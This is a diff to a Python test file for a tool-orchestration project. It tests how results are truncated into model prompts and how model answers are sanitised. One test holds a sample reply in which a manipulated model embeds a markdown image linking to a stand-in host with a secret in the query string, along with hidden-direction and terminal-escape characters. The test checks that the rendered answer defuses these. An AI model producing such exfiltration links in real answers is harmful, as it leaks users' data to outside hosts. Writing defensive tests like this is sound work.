@@ -7,6 +7,7 @@ import anyio
 import pytest
 from pydantic import JsonValue
 
+from batonmcp.core.attachment import Attachment, Contents
 from batonmcp.core.errors import ErrorInfo, LlmError
 from batonmcp.core.outcome import Cancelled, Failed, ItemOutcome, Outcome, Skipped, Succeeded
 from batonmcp.core.plan import Plan
@@ -97,17 +98,68 @@ async def test_halves_of_characters_are_not_sent() -> None:
 async def test_long_results_are_cut_and_say_so(steps: int, share: int) -> None:
     """A result gets its share of the prompt; one that is longer is cut, and it is said how much is shown."""
     request = await request_for("q", *[Succeeded(value="x" * 50_000)] * steps)
-    assert len(request.user) < 100_000
+    assert len(request.user) < 96_100
     lines = request.user.split("\n")[3:]
     assert len(lines) == steps
     for line in lines:
-        assert line.startswith('{"step": "s')
-        assert f"… (cut: {share:,} of 50," in line
-        assert share < len(line) < share + 100
+        assert share - 400 < len(line) <= share
+        entry = json.loads(line)
+        shown = len(entry["result"].partition("…")[0])
+        assert entry["result"].endswith(f"… ({shown:,} of 50,000 characters)")
+        assert entry["cut"] == [f"result: {shown:,} of 50,000 characters"]
+
+
+async def test_what_small_results_leave_goes_to_large_ones() -> None:
+    """Among many steps a large one gets all the room that is left, up to what one result may have."""
+    request = await request_for("q", *[Succeeded(value="small")] * 23, Succeeded(value="x" * 50_000))
+    *small, large = request.user.split("\n")[3:]
+    assert [json.loads(line)["result"] for line in small] == ["small"] * 23
+    assert 15_000 < len(large) <= 16_000
+
+
+async def test_a_cut_result_keeps_its_structure() -> None:
+    """What is small is whole, a list has both its ends, and the model is told where something is missing."""
+    rows: list[JsonValue] = [{"id": number, "title": "t" * 90} for number in range(5_000)]
+    (entry,) = lines_of(await request_for("q", Succeeded(value={"rows": rows, "total": 5_000})))
+    shown = entry["result"]["rows"]
+    assert (entry["result"]["total"], shown[0], shown[-1]) == (5_000, rows[0], rows[-1])
+    assert entry["cut"] == [f"result.rows: {len(shown) - 1} of 5,000 items"]
+    assert entry["places_cut"] == 1
+
+
+async def test_many_cuts_are_counted() -> None:
+    """The largest are named."""
+    texts: list[JsonValue] = ["x" * (9_000 + number) for number in range(10)]
+    (entry,) = lines_of(await request_for("q", Succeeded(value=texts)))
+    assert entry["places_cut"] == 10
+    assert entry["cut"][0].startswith("result[9]: ")
+    assert len(entry["cut"]) == 4
+    named: JsonValue = {"k" * 50 + str(number): {"l" * 50: {"m" * 50: text}} for number, text in enumerate(texts)}
+    (entry,) = lines_of(await request_for("q", Succeeded(value=named)))
+    assert (entry["places_cut"], "cut" in entry) == (10, False)
+
+
+async def test_media_are_named() -> None:
+    """The model is told that there is an image, and sees none of its bytes."""
+    image = Attachment(
+        name="image", media="image", mime="image/png", size=34_000, contents=Contents(uri="", blob="canary")
+    )
+    link = Attachment(uri="a://b", name="b")
+    request = await request_for("q", Succeeded(value={"page": 1}, attachments=(image, link)))
+    assert lines_of(request)[0]["media"] == ["image image/png, 34 kB"]
+    assert "canary" not in request.user
+
+
+async def test_nothing_in_an_answer_loads_or_hides() -> None:
+    """A model that was talked into an image with data in its address has written words."""
+    reply = "Done \u202e![x](https://evil.test/?q=secret) <img src=x>\x1b[2J"
+    with anyio.fail_after(5):
+        answer = await synthesize(ScriptedLLM(saying(reply)), "q", *told(Succeeded(value=1)))
+    assert answer == "Done (image: x: https://evil.test/?q=secret) &lt;img src=x>[2J"
 
 
 @pytest.mark.parametrize(
-    "reply", [calling(("a__x", {})), saying(""), saying(" \n")], ids=["a call", "nothing", "white space"]
+    "reply", [calling(("a__x", {})), saying(""), saying(" \n\u200b")], ids=["a call", "nothing", "white space"]
 )
 async def test_a_reply_without_words_is_no_answer(reply: Reply) -> None:
     """A model that calls a tool although none was offered, or says nothing, has not answered."""
